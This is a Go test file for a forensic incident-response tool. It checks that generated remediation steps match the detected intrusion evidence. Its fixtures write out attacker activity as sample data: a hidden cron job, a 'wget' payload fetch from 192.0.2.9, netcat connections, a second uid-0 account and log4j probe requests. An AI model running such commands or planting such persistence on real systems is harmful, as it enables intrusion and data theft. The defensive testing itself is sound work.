package story

import (
	"slices"
	"strings"
	"testing"

	"telltale/detect"
	"telltale/evidence"
)

// checkSteps looks at what must hold of every story's steps and summary: no password is called known that no way in used, nothing is advised twice, and no place for a
// word stays empty.
func checkSteps(t *testing.T, s *Story) {
	t.Helper()
	byPassword := slices.ContainsFunc(s.Entry, func(e Entry) bool {
		return slices.Contains([]string{"ssh-password-guessed", "ftp-password"}, e.Vector)
	})
	insider := slices.ContainsFunc(s.Entry, func(e Entry) bool { return e.Vector == "insider" })
	seen := map[string]bool{}
	for i, d := range s.DoNow {
		if strings.HasPrefix(d.Step, "Change the password") && !byPassword {
			t.Errorf("%q, though nobody came in by a password: %+v", d.Step, s.Entry)
		}
		if insider && i == 0 && !strings.HasPrefix(d.Step, "Speak to nobody") {
			t.Errorf("before it is said to keep it quiet: %q", d.Step)
		}
		if seen[d.Step] {
			t.Errorf("advised twice: %q", d.Step)
		}
		seen[d.Step] = true
	}
	for _, text := range append([]string{s.Verdict.Summary}, s.Unknown...) {
		if strings.Contains(text, "  ") || strings.Contains(text, " ,") || strings.Contains(text, "as at ") || strings.Contains(text, "()") || strings.Contains(text, "%!") {
			t.Errorf("a word is missing: %q", text)
		}
	}
}

// TestStepsFitWhatWasTried: who was only scanned is not told that passwords are guessed, and what is odd is named, not only the file that holds it.
func TestStepsFitWhatWasTried(t *testing.T) {
	amy := login(detect.Login, "amy", "198.51.100.2", "publickey", "01:00:00", "01:10:00", detect.Access{FirstOfAccount: true})
	attack := detect.Finding{Detection: "D20", What: detect.WebAttack, Title: "60 requests tried the log4j bug", Level: detect.Low, Rung: evidence.Attempt, Count: 60, For: quote("/var/log/apache2/access.log")}
	made := with(twin("03:00:00"), func(f *detect.Finding) {
		f.What, f.Path, f.Title = detect.AccountMade, "", "account toor2 was made with uid 0"
	})
	for name, tc := range map[string]struct {
		findings    []detect.Finding
		want, never string
	}{
		"guessed at":      {[]detect.Finding{amy, guessing}, "only keys log in", "site's software"},
		"the site tried":  {[]detect.Finding{amy, attack}, "site's software", "only keys log in"},
		"a second root":   {[]detect.Finding{twin("03:00:00")}, "a second account with uid 0 (/etc/passwd)", "was made with"},
		"made and listed": {[]detect.Finding{twin("03:00:00"), made}, "a second account with uid 0", "was made with uid 0."},
	} {
		s := Build(t.Context(), tc.findings, full())
		check(t, &s)
		var steps []string
		for _, d := range s.DoNow {
			steps = append(steps, d.Step)
		}
		if all := strings.Join(steps, "\n"); !strings.Contains(all, tc.want) || strings.Contains(all, tc.never) {
			t.Errorf("%s: %s (%s)", name, all, s.Verdict.Summary)
		}
	}
}

// TestStepsNameWhatTheyMean: what was left is removed with what it runs and without the owner's jobs in the same file, and a machine of a stranger's is not to be examined
// but looked for.
func TestStepsNameWhatTheyMean(t *testing.T) {
	bobs := with(cron("/var/spool/cron/crontabs/bob", "/var/tmp/.x/y >/dev/null", detect.High, "03:02:00"), func(f *detect.Finding) { f.As = "bob" })
	s := Build(t.Context(), []detect.Finding{guessed("03:00:00", "03:10:00"), bobs, outgoing("bob", "", "download", "192.0.2.9", "wget http://192.0.2.9/y", "03:01:00"), outgoing("bob", "", "connection", "192.0.2.10", "nc 192.0.2.10 80", "03:01:30"), outgoing("bob", "", "connection", "10.0.0.5", "nc 10.0.0.5 22", "03:01:40")}, full())
	check(t, &s)
	var steps []string
	for _, d := range s.DoNow {
		steps = append(steps, d.Step)
	}
	got := strings.Join(steps, "\n")
	for _, want := range []string{"the cron entry in /var/spool/cron/crontabs/bob with /var/tmp/.x/y.", "Look for connections to 192.0.2.9 and 192.0.2.10 from", "on 10.0.0.5, and examine"} {
		if !strings.Contains(got, want) {
			t.Errorf("%q is missing in:\n%s", want, got)
		}
	}
}
